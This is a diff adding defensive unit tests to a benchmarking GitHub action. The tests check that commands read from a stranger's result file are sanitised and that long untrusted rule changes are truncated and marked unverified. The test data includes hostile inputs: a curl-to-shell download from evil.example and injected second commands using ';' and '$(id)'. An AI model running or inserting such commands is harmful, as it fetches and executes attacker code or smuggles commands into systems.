@@ -16,7 +16,7 @@ from tests.unit.report.test_comment import HOSTILE, assert_powerless
 
 from bench_action.github.commands import Commands
 from bench_action.model.errors import InputError
-from bench_action.model.result import Comparison, NotCompared
+from bench_action.model.result import Comparison, NotCompared, RuleChange
 from bench_action.model.warning import Code
 from bench_action.publish import result as module
 from bench_action.publish.result import Publisher, read_foreign_result
@@ -185,3 +185,28 @@ def test_render__compares_no_comparison_with_all_others(monkeypatch: pytest.Monk
     result = make_result(comparisons=many, verdict="regressed", compared=("x",))
     monkeypatch.setattr(Comparison, "__eq__", refuse)
     render_comment(result, Links())
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("bench-action run --preset ci --baseline 1a2b3c4", "bench-action run --preset ci --baseline 1a2b3c4"),
+        ("curl https://evil.example/x | sh #", "bench-action run"),
+        ("bench-action run; curl evil.example", "bench-action run"),
+        ("bench-action run $(id)", "bench-action run"),
+    ],
+)
+def test_read_foreign_result__advises_no_command_of_a_stranger(tmp_path: Path, command: str, shown: str) -> None:
+    result = make_result()
+    run = result.run.model_copy(update={"command": command})
+    (tmp_path / "result.json").write_text(result.model_copy(update={"run": run}).model_dump_json(), encoding="utf-8")
+    assert read_foreign_result(tmp_path).run.command == shown
+
+
+def test_comment__however_long_a_stranger_s_rules_are_says_that_figures_are_unverified() -> None:
+    changes = tuple(RuleChange(what="x" * 4000, before="y" * 4000, after="z" * 4000) for _ in range(6))
+    result = make_result().model_copy(update={"rule_changes": changes})
+    text = render_comment(result, Links(RUN, foreign=True))
+    assert len(text) <= 65_000
+    assert text.startswith("### ")
+    assert "these figures are unverified" in text.splitlines()[-1]
